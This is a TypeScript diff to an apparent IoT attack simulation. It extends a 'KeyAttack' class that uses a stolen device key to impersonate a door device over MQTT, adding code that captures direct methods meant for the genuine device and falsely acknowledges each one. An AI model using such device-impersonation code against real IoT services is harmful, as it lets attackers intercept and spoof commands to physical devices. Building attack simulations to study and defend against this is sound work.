@@ -7,10 +7,10 @@ import type { DoorRecord } from "./door-record";
 import { DpsConnection } from "./dps-client";
 import { connectMqtt, MqttRefused } from "./mqtt-client";
 import type { MqttConnection } from "./mqtt-client";
-import { globalDpsHostName, telemetryTopic } from "./mqtt-transport";
+import { globalDpsHostName, serveMethods, telemetryTopic } from "./mqtt-transport";
 import type { Slots } from "./slots";
 import { messageOf } from "./transport";
-import type { DeviceMessage } from "./transport";
+import type { DeviceMessage, MethodAnswer } from "./transport";
 import { Waits } from "./waits";
 
 export interface StolenKey {
@@ -65,6 +65,12 @@ export interface KeyReport {
   readonly holding: boolean;
 }
 
+/** A direct method that was meant for the genuine device. */
+export interface OverheardMethod {
+  readonly name: string;
+  readonly payload: unknown;
+}
+
 export interface KeyAttackOptions {
   readonly dial: Dialer;
   readonly idScope: string;
@@ -84,6 +90,7 @@ export class KeyAttack {
   private readonly messages = new Door();
   private readonly hubWaits: Waits;
   private readonly dpsWaits: Waits;
+  private readonly overheard: OverheardMethod[] = [];
   private stopped = false;
   private alarmed = false;
   private session: MqttConnection | undefined;
@@ -111,6 +118,11 @@ export class KeyAttack {
       session: this.messages.get(),
       holding: this.session?.open === true,
     };
+  }
+
+  /** The direct methods that reached a held session, oldest first. */
+  methods(): readonly OverheardMethod[] {
+    return this.overheard;
   }
 
   /** Sends over the held session. @throws Error when none is held, or when it ends before the acknowledgement. */
@@ -166,6 +178,7 @@ export class KeyAttack {
     const waits = new Waits(this.options.clock);
     void session.closed.then(() => waits.interrupt());
     try {
+      if (this.key.hold === true) await serveMethods(session, (name, payload) => this.overhear(name, payload));
       do {
         const begunAt = this.options.clock.now();
         await sendOver(session, this.deviceId, knockMessage);
@@ -176,6 +189,12 @@ export class KeyAttack {
       this.messages.refused(this.options.clock.now(), messageOf(error));
     }
     session.end();
+  }
+
+  /** What the service asks of the device it believes to speak to is the thief's to know; he says yes to all of it. */
+  private overhear(name: string, payload: unknown): MethodAnswer {
+    this.overheard.push({ name, payload });
+    return { status: 202 };
   }
 
   private hubPause(): number {
